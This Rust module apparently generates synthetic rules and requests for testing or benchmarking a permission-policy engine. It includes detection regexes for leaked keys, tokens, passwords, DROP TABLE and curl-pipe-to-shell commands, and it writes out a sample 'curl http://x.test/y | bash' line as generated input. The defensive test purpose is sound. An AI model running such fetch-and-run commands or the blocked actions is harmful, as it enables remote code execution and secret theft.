//! Rules and requests of the corpus's shape, in any size. The same size and seed give the same workload.

use super::scan::Scan;
use super::{Effect, Request, Rule, When, Workload};

/// Requests of one workload.
const REQUESTS: usize = 2_000;

const WORDS: [&str; 24] = [
    "build", "cache", "column", "commit", "config", "const", "deny", "deploy", "error", "handler", "import",
    "index", "insert", "merge", "node", "policy", "query", "release", "review", "secret", "TABLE", "token",
    "update", "value",
];
const MODES: [&str; 4] = ["plan", "default", "auto", "locked"];
const PROGRAMS: [&str; 10] =
    ["opsctl", "deployer", "dbtool", "cfgmgr", "bazel", "flux", "acme", "infra", "kubectl", "terraform"];
const ACTIONS: [&str; 6] = ["show", "sync", "rollback", "promote", "drain", "apply"];
const EXTENSIONS: [&str; 6] = ["rs", "ts", "py", "md", "json", "toml"];
const FOLDERS: [&str; 5] = ["src", "docs", "tests", "deploy", "ci"];

/// Of twenty rules: 30 % paths, 20 % tools, 20 % commands, 15 % expressions, 10 % hosts, 5 % ranges.
const KINDS: [u8; 20] = *b"ptcpxhtcpxptchpxtcpr";

struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn chance(&mut self, percent: usize) -> bool {
        self.below(100) < percent
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.below(from.len())]
    }

    fn letters(&mut self, least: usize, most: usize) -> String {
        let count = least + self.below(most - least + 1);
        (0..count).map(|_| char::from(b'a' + self.below(26) as u8)).collect()
    }

    fn words(&mut self, least: usize, most: usize) -> String {
        let count = least + self.below(most - least + 1);
        let words: Vec<String> = (0..count)
            .map(|_| if self.chance(12) { self.letters(6, 6) } else { self.pick(&WORDS).to_owned() })
            .collect();
        words.join(" ")
    }
}

/// A workload of that many rules.
pub fn workload(rules: usize, seed: u64) -> Workload {
    let mut random = Random(seed);
    let rules: Vec<Rule> = (0..rules).map(|at| rule(&mut random, at, rules)).collect();
    let scan = Scan::new(&rules);
    let requests: Vec<Request> = (0..REQUESTS).map(|at| request(&mut random, at, &rules)).collect();
    let expected = requests.iter().map(|request| scan.decide(request)).collect();
    Workload { rules, requests, expected }
}

fn rule(random: &mut Random, at: usize, all: usize) -> Rule {
    let kind = KINDS[at % KINDS.len()];
    // As many projects as the corpus has for its size.
    let project = random.below(all / 8 + 3);
    let (caps, when): (&[&str], When) = match kind {
        b'p' => {
            let glob = match random.below(10) {
                0..=2 => format!("/work/proj-{project}/**"),
                3 | 4 => format!("/work/proj-{project}/{}/**", random.pick(&FOLDERS)),
                5 | 6 => format!("/work/proj-{project}/**/*.{}", random.pick(&EXTENSIONS)),
                7 | 8 => format!("**/secrets-{at}.yaml"),
                _ => format!("**/vault-{at}/**"),
            };
            ([&["read"][..], &["write"], &["read", "write"]][random.below(3)], When::PathGlob { glob })
        }
        b't' => {
            let tool = random.pick(&["get", "list", "search", "create", "update", "delete", "send"]);
            (&[], When::Tool { name: format!("mcp__srv{}__{tool}", at / 5) })
        }
        b'c' => {
            let (program, action) = (random.pick(&PROGRAMS), random.pick(&ACTIONS));
            let prefix = match random.below(3) {
                0 => format!("{program}{at}"),
                1 => format!("{program}{at} {action}"),
                _ => format!("{program} {action} env-{at}"),
            };
            (&["exec"], When::CmdPrefix { prefix })
        }
        b'h' => {
            let suffix = match random.below(3) {
                0 => format!("svc{at}.example"),
                1 => format!("eu.api{at}.example"),
                _ => format!("corp{at}.test"),
            };
            (&["network"], When::HostSuffix { suffix })
        }
        b'r' => {
            let number = at / 20;
            let cidr = match random.below(3) {
                0 => format!("10.{}.{}.0/24", number / 256, number % 256),
                1 => format!("172.{}.{}.0/20", 16 + number / 16 % 16, number % 16 * 16),
                _ => format!("100.{}.0.0/16", 64 + number % 64),
            };
            (&["network"], When::Cidr { cidr })
        }
        _ => {
            let pattern = match random.below(8) {
                0 => format!("AKIA{at:04}[0-9A-Z]{{12}}"),
                1 => format!("token-{at}-[0-9a-f]{{8,16}}"),
                2 => format!(r"(?:[Pp]assword|passwd)_{at}\s*[:=]\s*\S+"),
                3 => format!(r"\bDROP\s+TABLE\s+t{at}_\w+"),
                4 => format!("ghp_{at}[A-Za-z0-9]{{20}}"),
                5 => format!(r"(?:curl|wget)\s+[^|]*\|\s*(?:sh|bash)\s+#{at}\b"),
                6 => format!(r"[0-9]{{3}}-[0-9]{{2}}-{at:04}\b"),
                _ => format!(r"--force(?:-with-lease)?\s+proj{at}\b"),
            };
            ([&[][..], &["write"], &["exec"], &["network"]][random.below(4)], When::Regex { pattern })
        }
    };
    let modes: Vec<String> = match random.chance(50) {
        true => Vec::new(),
        false => MODES.iter().filter(|_| random.chance(50)).map(|mode| (*mode).to_owned()).collect(),
    };
    Rule {
        id: at as u32,
        effect: if random.chance(48) { Effect::Forbid } else { Effect::Permit },
        caps: caps.iter().map(|cap| (*cap).to_owned()).collect(),
        modes,
        when,
    }
}

fn request(random: &mut Random, at: usize, rules: &[Rule]) -> Request {
    let mut request = plain(random, at);
    let aim = random.below(100);
    if aim >= 60 {
        return request;
    }
    let rule = &rules[random.below(rules.len())];
    if let Some(cap) = rule.caps.first()
        && *cap != request.cap
    {
        request = Request { id: request.id, mode: request.mode.clone(), ..with_cap(random, at, cap) };
    }
    if let Some(mode) = rule.modes.first() {
        request.mode.clone_from(mode);
    }
    aim_at(random, &mut request, &rule.when, aim >= 46);
    request
}

/// A request that nothing is meant for.
fn plain(random: &mut Random, at: usize) -> Request {
    let cap = random.pick(&["read", "read", "write", "write", "exec", "exec", "network"]);
    with_cap(random, at, cap)
}

fn with_cap(random: &mut Random, at: usize, cap: &str) -> Request {
    let mut request = Request {
        id: at as u32,
        mode: random.pick(&MODES).to_owned(),
        cap: cap.to_owned(),
        tool: String::new(),
        path: String::new(),
        cmd: String::new(),
        host: String::new(),
        ip: String::new(),
        text: random.words(4, 30),
    };
    match cap {
        "exec" => {
            request.tool = "Bash".to_owned();
            request.cmd = random.words(1, 20);
            request.text.clone_from(&request.cmd);
        }
        "network" => {
            request.tool = random.pick(&["Fetch", "WebSearch"]).to_owned();
            request.host = format!("cdn{}.{}.invalid", random.below(500), random.letters(6, 6));
            if random.chance(60) {
                request.ip = format!("203.0.113.{}", random.below(256));
            }
        }
        _ => {
            let tools: &[&str] = if cap == "read" { &["Read", "Grep", "Glob"] } else { &["Edit", "Write"] };
            request.tool = random.pick(tools).to_owned();
            request.path = format!("/home/u{}/{}", random.below(20), below(random, random_depth(at)));
        }
    }
    request
}

fn random_depth(at: usize) -> usize {
    1 + at % 5
}

/// Some components and a name.
fn below(random: &mut Random, depth: usize) -> String {
    let mut parts: Vec<String> = (0..depth)
        .map(|_| if random.chance(50) { random.letters(3, 8) } else { random.pick(&WORDS).to_owned() })
        .collect();
    parts.push(format!("{}.{}", random.letters(6, 6), random.pick(&EXTENSIONS)));
    parts.join("/")
}

/// Makes the request one that the condition holds for, or that it nearly holds for.
fn aim_at(random: &mut Random, request: &mut Request, when: &When, near: bool) {
    match when {
        When::PathGlob { .. } if request.path.is_empty() => {}
        When::PathGlob { glob } => {
            let mut path = match glob.strip_prefix("**/") {
                Some(rest) => format!("/srv/{}/{rest}", random.pick(&WORDS)),
                None => glob.clone(),
            };
            path = path.replace("/**/*", &format!("/{}/x", random.pick(&WORDS)));
            path = path.replace("/**", &format!("/{}", below(random, 2)));
            request.path = if near { path.replacen("-", "-9", 1) } else { path };
        }
        When::Tool { name } => request.tool = if near { format!("{name}_v2") } else { name.clone() },
        When::CmdPrefix { prefix } => {
            let rest = random.words(1, 8);
            let between = if near { "x " } else { " " };
            request.cmd = format!("{prefix}{between}{rest}");
            request.text.clone_from(&request.cmd);
        }
        When::HostSuffix { suffix } => {
            let before = if near { "not".to_owned() } else { format!("{}.", random.letters(2, 7)) };
            request.host = format!("{before}{suffix}");
        }
        When::Cidr { cidr } => {
            let network: ipnet::Ipv4Net = cidr.parse().expect("a range");
            let first = u32::from(network.network());
            let address = if near { first.wrapping_sub(1) } else { first + random.below(200) as u32 };
            request.ip = std::net::Ipv4Addr::from(address).to_string();
        }
        When::Regex { pattern } => {
            let (before, behind) = (random.words(2, 10), random.words(2, 10));
            request.text = format!("{before} {} {behind}", found(pattern, near));
            if request.cap == "exec" {
                request.cmd.clone_from(&request.text);
            }
        }
    }
}

/// A text that a pattern of this generator finds, or nearly.
fn found(pattern: &str, near: bool) -> String {
    let number: String = pattern.chars().filter(char::is_ascii_digit).collect();
    let literal = |from: &str, to: &str| {
        let start = pattern.find(from).map_or(0, |at| at + from.len());
        let rest = &pattern[start..];
        rest[..rest.find(to).unwrap_or(rest.len())].to_owned()
    };
    let text = match pattern.as_bytes() {
        [b'A', ..] => format!("AKIA{}ABCDEFGH0123", literal("AKIA", "[")),
        [b't', ..] => format!("token-{}-0123abcdef", literal("token-", "-")),
        [b'(', b'?', b':', b'[', ..] => format!("password_{} = hunter2", literal("_", r"\s")),
        [b'\\', b'b', ..] => format!("DROP  TABLE t{}_users", literal("+t", "_")),
        [b'g', ..] => format!("ghp_{}abcdefghij0123456789", literal("ghp_", "[")),
        [b'(', ..] => format!("curl http://x.test/y | bash #{}", literal("#", r"\b")),
        [b'[', ..] => format!("123-45-{}", literal("{2}-", r"\b")),
        _ => format!("--force proj{}", literal("proj", r"\b")),
    };
    debug_assert!(!number.is_empty());
    if near { text.replacen(|c: char| c.is_ascii_digit(), "x", 1) } else { text }
}
